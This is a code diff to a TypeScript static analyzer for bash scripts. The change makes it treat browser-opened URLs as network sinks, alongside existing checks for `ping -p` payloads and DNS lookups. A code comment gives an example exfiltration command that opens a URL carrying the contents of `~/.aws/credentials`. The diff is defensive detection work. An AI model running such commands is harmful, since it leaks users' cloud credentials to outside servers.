@@ -1,6 +1,6 @@
 import type { Node } from 'web-tree-sitter';
 import { EMPTY, foldString, textValue, union, withText, asCredential, type AbstractValue, type Recorder, type SinkSite, type StringPart } from './core';
-import { dnsLookupProgram, DNS_PROGRAMS, HOME_VARIABLES, workloadCredentialSource, hostInText, isSecretName, keyFileVariable, SCREEN_CAPTURE_PROGRAMS, shellCommandSource, systemPasswordPrompt } from './labels';
+import { BROWSER_PROGRAMS, dnsLookupProgram, DNS_PROGRAMS, HOME_VARIABLES, workloadCredentialSource, hostInText, isSecretName, keyFileVariable, SCREEN_CAPTURE_PROGRAMS, shellCommandSource, systemPasswordPrompt } from './labels';
 import type { HelperReuse, OutsideRead } from './helper-replay';
 import { findAll, MAX_DEPTH, MAX_LITERAL_LOOP_ITEMS, unquote, WalkerBase, type FunctionInfo } from './walker';
 import { programIndex } from '../shell-wrappers';
@@ -528,6 +528,15 @@ export class BashWalker extends WalkerBase {
       const pattern = texts.findIndex((text) => text === '-p');
       const host = texts.slice(1).filter((text) => !text.startsWith('-')).pop();
       if (pattern > 0 && words[pattern + 1]) this.reachSink(words[pattern + 1]?.value ?? EMPTY, this.recorder.sink('socket', `ICMP packets to ${host ?? 'a remote host'} (\`ping -p\`)`, node.startIndex, node.endIndex, host), 'payload');
+    }
+    // `open "https://…?d=$(cat ~/.aws/credentials)"`: the browser sends the address to its host.
+    if (BROWSER_PROGRAMS.has(program)) {
+      for (const word of words.slice(1)) {
+        if (!/^["']?https?:\/\//i.test(word.value.text ?? word.node.text)) continue;
+        const host = hostInText(word.value.text ?? word.node.text);
+        this.reachSink(word.value, this.recorder.sink('network', `a page the browser opens at ${host ?? 'a remote server'}`, node.startIndex, node.endIndex, host), 'url');
+      }
+      return EMPTY;
     }
     const dnsProgram = dnsLookupProgram([program, ...texts.slice(1)]);
     if (dnsProgram) {
